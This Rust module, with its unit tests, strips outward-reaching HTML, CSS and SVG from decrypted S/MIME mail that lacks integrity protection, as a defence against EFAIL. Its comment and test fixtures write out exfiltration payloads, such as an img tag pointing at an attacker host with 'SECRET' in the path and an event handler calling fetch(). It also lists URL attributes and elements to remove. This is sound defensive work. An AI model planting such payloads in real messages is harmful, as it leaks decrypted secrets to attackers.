//! The EFAIL defence. Content encrypted without integrity (CBC or 3DES
//! EnvelopedData) can be malleated by anyone who captured it: knowing one
//! plaintext block lets an attacker plant HTML such as `<img src="http://
//! attacker/` in front of the secret. When such content reaches a mailbox
//! decrypted and no valid signature inside the encryption vouches for it,
//! every HTML part loses what would make a mail client fetch or send
//! anything: remote `src`/`href`-like attributes, `<base>`, `<link>`,
//! `<meta http-equiv>`, forms, frames, scripts, event handlers, `<style>`
//! and CSS with `url()`. The HTML is rewritten by lol_html (an HTML5
//! tokenizer, as browsers read it); HTML it cannot rewrite is delivered as
//! plain text. Parts a client may render with what reaches out but that
//! are not rewritten (SVG, XHTML, XML) become `application/octet-stream`
//! attachments, which no client renders. AES-GCM (AuthEnvelopedData) and
//! content signed inside the encryption pass as they are. Pure: bytes in,
//! bytes out.

use std::borrow::Cow;

use lol_html::html_content::Element;
use lol_html::{element, rewrite_str, RewriteStrSettings};
use mail_parser::{MimeHeaders, PartType};

use crate::mail::nesting::{self, TooComplex};
use crate::mail::readings;
use crate::smime::scan::Seen;
use crate::smime::{mime, parse};

/// Most nested messages followed.
const MAX_DEPTH: usize = 4;

/// What the defence did to a decrypted message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Protected<'a> {
    pub message: Cow<'a, [u8]>,
    /// The content had no integrity protection (say `integrity=none`).
    pub integrity_none: bool,
    /// Some HTML was rewritten.
    pub neutralised: bool,
}

/// Applies the defence to `message`, decrypted from a body the scan saw
/// as `seen`. Content `covered` by a signature inside the encryption whose
/// mathematics hold (whoever signed: nobody can sign malleated plaintext
/// they cannot read) is left as it is. Content that needs the defence but
/// is too deeply nested to be parsed (`mail::nesting`) is an error: it
/// cannot be made inert, so it must not be delivered.
pub fn protect(message: &[u8], seen: Seen, covered: bool) -> Result<Protected<'_>, TooComplex> {
    if !seen.without_integrity || covered {
        return Ok(Protected {
            message: Cow::Borrowed(message),
            integrity_none: false,
            neutralised: false,
        });
    }
    let (out, neutralised) = neutralise(message, 0)?;
    Ok(Protected {
        message: out,
        integrity_none: true,
        neutralised,
    })
}

/// `message` with every HTML part (at any depth) made inert; whether
/// anything changed.
fn neutralise(message: &[u8], depth: usize) -> Result<(Cow<'_, [u8]>, bool), TooComplex> {
    // A message that reads two ways (`mail::readings`: a field or a body
    // line one parser takes for another, a broken encoding, a multipart
    // not closed) cannot be told HTML or not as a client will: it cannot
    // be made inert. One leaf entity that is not HTML (decrypted mail is
    // mostly one text part): nothing to rewrite, its body need not be read.
    let parsed = match parse::leaf(message) {
        Some(part) => {
            readings::part(&part, message)?;
            if active(&part).is_some() {
                // Its body is needed, decoded: the full parse.
                nesting::parse(message)?
            } else if !parse::may_be_html(&part) {
                return Ok((Cow::Borrowed(message), false));
            } else {
                parse::message_from_leaf(part, message)
            }
        }
        None => nesting::parse(message)?,
    };
    let Some(parsed) = parsed else {
        return Ok((Cow::Borrowed(message), false));
    };
    readings::rendering(&parsed, message)?;
    // (start, end, replacement), in message order.
    let mut edits: Vec<(usize, usize, Vec<u8>)> = Vec::new();
    for part in &parsed.parts {
        let (start, body_start, end) = (
            part.offset_header as usize,
            part.offset_body as usize,
            part.offset_end as usize,
        );
        if start > body_start || body_start > end || end > message.len() {
            continue;
        }
        // Inside a part already replaced (a nested message): skip.
        if edits.iter().any(|(s, e, _)| start >= *s && end <= *e) {
            continue;
        }
        let headers = &message[start..body_start];
        if active(part).is_some() && !matches!(part.body, PartType::Multipart(_)) {
            let mut inert = as_attachment(headers, part.contents());
            if end == message.len() {
                inert.extend_from_slice(b"\r\n");
            }
            edits.push((start, end, inert));
            continue;
        }
        match &part.body {
            PartType::Html(html) => {
                let (ctype, body) = match inert_html(html) {
                    // Nothing in it reaches out: left as it came.
                    Some(h) if h == *html => continue,
                    Some(h) => ("text/html; charset=utf-8", h),
                    None => ("text/plain; charset=utf-8", html.to_string()),
                };
                edits.push((start, end, reencoded(headers, ctype, body.as_bytes())));
            }
            // Deeper than followed: its HTML cannot be made inert.
            PartType::Message(_) if depth >= MAX_DEPTH => {
                return Err(TooComplex::TooDeepToMakeInert(MAX_DEPTH))
            }
            PartType::Message(_) => {
                let inner = part.contents();
                let (done, changed) = neutralise(inner, depth + 1)?;
                if changed {
                    edits.push((start, end, with_body(headers, &done)));
                }
            }
            _ => {}
        }
    }
    if edits.is_empty() {
        return Ok((Cow::Borrowed(message), false));
    }
    let mut out = Vec::with_capacity(message.len() + message.len() / 3);
    let mut at = 0;
    for (start, end, replacement) in edits {
        if start < at {
            continue;
        }
        out.extend_from_slice(&message[at..start]);
        out.extend_from_slice(&replacement);
        at = end;
    }
    out.extend_from_slice(&message[at..]);
    Ok((Cow::Owned(out), true))
}

/// What a part is when its type is one a client may render, with remote
/// references or scripts, other than `text/html` (which is rewritten):
/// SVG, XHTML, any other `html` type, XML (`xml` or `…+xml`, which a
/// client rendering it fetches a stylesheet or entity for).
fn active(part: &mail_parser::MessagePart<'_>) -> Option<&'static str> {
    let ct = part.content_type()?;
    let sub = ct.subtype().unwrap_or_default().to_ascii_lowercase();
    let text_html = ct.ctype().eq_ignore_ascii_case("text") && sub == "html";
    match () {
        _ if sub.contains("svg") => Some("SVG"),
        _ if sub.contains("html") && !text_html => Some("XHTML"),
        _ if sub == "xml" || sub.ends_with("+xml") => Some("XML"),
        _ => None,
    }
}

/// The part's header fields without Content-Type and
/// Content-Transfer-Encoding (and the blank line), as lines ending CRLF.
fn kept_fields(headers: &[u8]) -> Vec<u8> {
    let headers = mime::crlf(headers);
    let (fields, _) = mime::split(&headers);
    mime::without(fields, |n| {
        n == "content-type" || n == "content-transfer-encoding"
    })
}

/// A part with `ctype`, `body` in base64, and its other header fields.
/// Ends without CRLF: the boundary line that follows brings its own.
fn reencoded(headers: &[u8], ctype: &str, body: &[u8]) -> Vec<u8> {
    let mut out = kept_fields(headers);
    out.extend_from_slice(
        format!("Content-Type: {ctype}\r\nContent-Transfer-Encoding: base64\r\n\r\n").as_bytes(),
    );
    let lines = mime::base64_lines(body);
    out.extend_from_slice(lines.strip_suffix(b"\r\n").unwrap_or(&lines));
    out
}

/// A part a client may render that is not rewritten, as an attachment
/// no client renders: `application/octet-stream`, its disposition
/// `attachment` (its file name kept), its body in base64, its other header
/// fields kept. Ends without CRLF, as [`reencoded`].
fn as_attachment(headers: &[u8], body: &[u8]) -> Vec<u8> {
    let headers = mime::crlf(headers);
    let (fields, _) = mime::split(&headers);
    let mut params = Vec::new();
    mime::each_field(fields, |name, raw| {
        if name == "content-disposition" && params.is_empty() {
            // What follows the disposition type (a token: no quotes).
            if let Some(at) = raw.iter().position(|b| *b == b';') {
                params = raw[at..].to_vec();
            }
        }
    });
    let mut out = mime::without(fields, |n| {
        n == "content-type" || n == "content-transfer-encoding" || n == "content-disposition"
    });
    out.extend_from_slice(b"Content-Disposition: attachment");
    if params.is_empty() {
        out.extend_from_slice(b"\r\n");
    } else {
        out.extend_from_slice(&params);
    }
    out.extend_from_slice(
        b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n",
    );
    let lines = mime::base64_lines(body);
    out.extend_from_slice(lines.strip_suffix(b"\r\n").unwrap_or(&lines));
    out
}

/// A `message/rfc822` part with a new (already rewritten) message.
fn with_body(headers: &[u8], body: &[u8]) -> Vec<u8> {
    let mut out = kept_fields(headers);
    out.extend_from_slice(
        b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: 8bit\r\n\r\n",
    );
    let body = mime::crlf(body);
    out.extend_from_slice(body.strip_suffix(b"\r\n").unwrap_or(&body));
    out
}

/// Attributes that make a client fetch, navigate or submit.
const URL_ATTRIBUTES: &[&str] = &[
    "src",
    "href",
    "srcset",
    "imagesrcset",
    "background",
    "poster",
    "action",
    "formaction",
    "data",
    "codebase",
    "cite",
    "longdesc",
    "lowsrc",
    "dynsrc",
    "manifest",
    "ping",
    "profile",
    "usemap",
    "archive",
    "classid",
];

/// Elements removed with their content (they load or run things).
const DROPPED: &str =
    "base, link, meta, script, style, iframe, frame, frameset, object, embed, applet, noscript";

/// `html` with nothing left that reaches out; `None` when it cannot be
/// rewritten.
pub fn inert_html(html: &str) -> Option<String> {
    let settings = RewriteStrSettings::new()
        .append_element_content_handler(element!(DROPPED, |el| {
            el.remove();
            Ok(())
        }))
        .append_element_content_handler(element!("form", |el| {
            el.remove_and_keep_content();
            Ok(())
        }))
        .append_element_content_handler(element!("*", |el| {
            scrub(el);
            Ok(())
        }))
        .with_strict(false);
    rewrite_str(html, settings).ok()
}

/// Removes every attribute of `el` that could reach out.
fn scrub(el: &mut Element<'_, '_>) {
    let names: Vec<(String, String)> = el
        .attributes()
        .iter()
        .map(|a| (a.name(), a.value()))
        .collect();
    for (name, value) in names {
        let n = name.to_ascii_lowercase();
        let url_like = URL_ATTRIBUTES.contains(&n.as_str()) || n.ends_with(":href");
        let remove = n.starts_with("on")
            || (n == "style" && css_reaches_out(&value))
            || (url_like && !is_local(&value))
            || n == "http-equiv";
        if remove {
            el.remove_attribute(&name);
        }
    }
}

/// CSS that might load something: `url(`, `image-set(`, `@import`, or
/// any escape (which could spell them).
fn css_reaches_out(css: &str) -> bool {
    let lower = css.to_ascii_lowercase();
    ["url", "image", "@import", "expression", "\\", "&"]
        .iter()
        .any(|w| lower.contains(w))
}

/// References that never leave the message: a fragment, a MIME part
/// (`cid:`), or inline image data.
fn is_local(value: &str) -> bool {
    let v: String = value
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    v.is_empty() || v.starts_with('#') || v.starts_with("cid:") || v.starts_with("data:image/")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cbc() -> Seen {
        Seen {
            encrypted: true,
            without_integrity: true,
        }
    }

    #[test]
    fn remote_references_are_removed() {
        let html = r#"<html><head><base href="http://a/"><meta http-equiv="refresh" content="0;url=http://a/x"><link rel=stylesheet href="http://a/s.css"><style>body{background:url(http://a/b)}</style></head>
<body background="http://a/bg"><img src='http://attacker.test/SECRET'><img src="cid:part1"><a href="https://a/l">link</a>
<div style="background-image: u\rl(http://a/c)">x</div><p style="color: red">red</p><form action="http://a/f"><input name=q><button formaction="http://a/g">go</button></form>
<svg><image xlink:href="http://a/svg"/></svg><video poster="//a/p"></video><img srcset="http://a/1 1x"><p onmouseover="fetch('http://a')">SECRET</p></body></html>"#;
        let out = inert_html(html).unwrap();
        for bad in [
            "http://",
            "//a/",
            "<base",
            "<meta",
            "<link",
            "<style",
            "url(",
            "u\\rl",
            "<form",
            "action",
            "onmouseover",
            "srcset",
        ] {
            assert!(!out.contains(bad), "{bad} left in {out}");
        }
        for kept in [
            "cid:part1",
            "style=\"color: red\"",
            "SECRET",
            "<input name=q>",
            "link</a>",
        ] {
            assert!(out.contains(kept), "{kept} lost in {out}");
        }
    }

    #[test]
    fn html_parts_are_rewritten_and_the_rest_kept() {
        let m = b"From: a@b\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nplain http://x\r\n--B\r\nContent-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<p>hej =E6</p><img src=3D\"http://a/x\">\r\n--B--\r\n";
        let p = protect(m, cbc(), false).unwrap();
        assert!(p.integrity_none && p.neutralised);
        let text = String::from_utf8(p.message.to_vec()).unwrap();
        assert!(text.contains("plain http://x"), "{text}");
        assert!(text.contains("Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"), "{text}");
        let parsed = mail_parser::MessageParser::default()
            .parse(text.as_bytes())
            .unwrap();
        let html = parsed.body_html(0).unwrap();
        assert!(
            html.contains("<p>hej æ</p>") && !html.contains("http"),
            "{html}"
        );
        assert!(text.ends_with("\r\n--B--\r\n"));
    }

    #[test]
    fn html_that_reaches_out_for_nothing_is_left_as_it_came() {
        let m = b"Content-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<p>hej =E6</p>\r\n";
        let p = protect(m, cbc(), false).unwrap();
        assert!(p.integrity_none && !p.neutralised);
        assert_eq!(&*p.message, &m[..]);
    }

    #[test]
    fn svg_and_xhtml_become_attachments_no_client_renders() {
        let svg = "<svg><image href=\"http://a/x\"/></svg>";
        let leaf = |ct: &str| format!("Content-Type: {ct}\r\nX-Kept: 1\r\n\r\n{svg}\r\n");
        for ct in [
            "image/svg+xml",
            "application/xhtml+xml",
            "Image/SVG+XML; charset=utf-8",
            "text/xml",
            "application/rss+xml",
        ] {
            let m = leaf(ct);
            let out = protect(m.as_bytes(), cbc(), false).unwrap();
            assert!(out.neutralised, "{ct}");
            let text = String::from_utf8_lossy(&out.message).to_string();
            assert!(
                text.starts_with(
                    "X-Kept: 1\r\nContent-Disposition: attachment\r\nContent-Type: application/octet-stream\r\n"
                ),
                "{ct}: {text}"
            );
            assert!(text.ends_with("\r\n") && !text.to_ascii_lowercase().contains("svg+xml"));
            let parsed = mail_parser::MessageParser::default()
                .parse(text.as_bytes())
                .unwrap();
            assert_eq!(parsed.parts[0].contents(), format!("{svg}\r\n").as_bytes());
        }
        let inside = b"Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nx\r\n--B\r\nContent-Type: image/svg+xml\r\nContent-Disposition: attachment; filename=logo.svg\r\n\r\n<svg/>\r\n--B--\r\n";
        let out = protect(inside, cbc(), false).unwrap();
        let text = String::from_utf8_lossy(&out.message).to_string();
        assert!(
            text.contains("Content-Disposition: attachment; filename=logo.svg\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\nPHN2Zy8+\r\n--B--\r\n"),
            "{text}"
        );
        assert!(text.starts_with("Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nx\r\n--B\r\n"), "{text}");
        // Shown inline before: an attachment now, its name kept.
        let inline = b"Content-Type: image/svg+xml\r\nContent-Disposition: inline;\r\n filename=\"logo.svg\"\r\n\r\n<svg/>\r\n";
        let out = protect(inline, cbc(), false).unwrap();
        let text = String::from_utf8_lossy(&out.message).to_string();
        assert!(
            text.starts_with("Content-Disposition: attachment;\r\n filename=\"logo.svg\"\r\nContent-Type: application/octet-stream\r\n"),
            "{text}"
        );
        // Control: a PNG and plain text pass, and a Word document (its
        // type names XML, but not as its subtype); with integrity, SVG passes.
        assert!(protect(leaf("image/png").as_bytes(), cbc(), false).is_ok());
        let docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
        let word = leaf(docx);
        let out = protect(word.as_bytes(), cbc(), false).unwrap();
        assert!(!out.neutralised && out.message.as_ref() == word.as_bytes());
        let gcm = Seen {
            encrypted: true,
            without_integrity: false,
        };
        assert!(protect(leaf("image/svg+xml").as_bytes(), gcm, false).is_ok());
    }

    #[test]
    fn authenticated_content_passes_unchanged() {
        let m = b"Content-Type: text/html\r\n\r\n<img src=\"http://a/x\">\r\n";
        let gcm = Seen {
            encrypted: true,
            without_integrity: false,
        };
        let p = protect(m, gcm, false).unwrap();
        assert_eq!(&*p.message, &m[..]);
        assert!(!p.integrity_none && !p.neutralised);
        let p = protect(m, cbc(), false).unwrap();
        assert!(p.integrity_none && p.neutralised);
        assert!(!String::from_utf8_lossy(&p.message).contains("http://"));
        // Plain text from CBC: nothing to change, but said.
        let t = b"Content-Type: text/plain\r\n\r\nhttp://a/x\r\n";
        let p = protect(t, cbc(), false).unwrap();
        assert!(p.integrity_none && !p.neutralised);
        assert_eq!(&*p.message, &t[..]);
        // Signed inside the encryption: left as it is.
        let p = protect(m, cbc(), true).unwrap();
        assert!(!p.integrity_none && !p.neutralised);
    }

    #[test]
    fn content_too_deep_to_make_inert_is_an_error() {
        let deep = |levels: usize| {
            let mut m = b"From: a@b\r\n".to_vec();
            m.extend(b"Content-Type: message/rfc822\r\n\r\n".repeat(levels));
            m.extend_from_slice(b"Content-Type: text/html\r\n\r\n<img src=\"http://a/x\">\r\n");
            m
        };
        let over = deep(crate::mail::nesting::MAX_DEPTH + 1);
        assert_eq!(
            protect(&over, cbc(), false).err(),
            Some(TooComplex::TooDeep)
        );
        // With integrity, or signed inside: nothing to parse.
        assert!(protect(&over, cbc(), true).is_ok());
        // Positive control: three levels are parsed (and followed no
        // deeper than MAX_DEPTH here), not refused.
        let shallow = deep(3);
        let p = protect(&shallow, cbc(), false).unwrap();
        assert!(p.integrity_none && p.neutralised);
    }
}
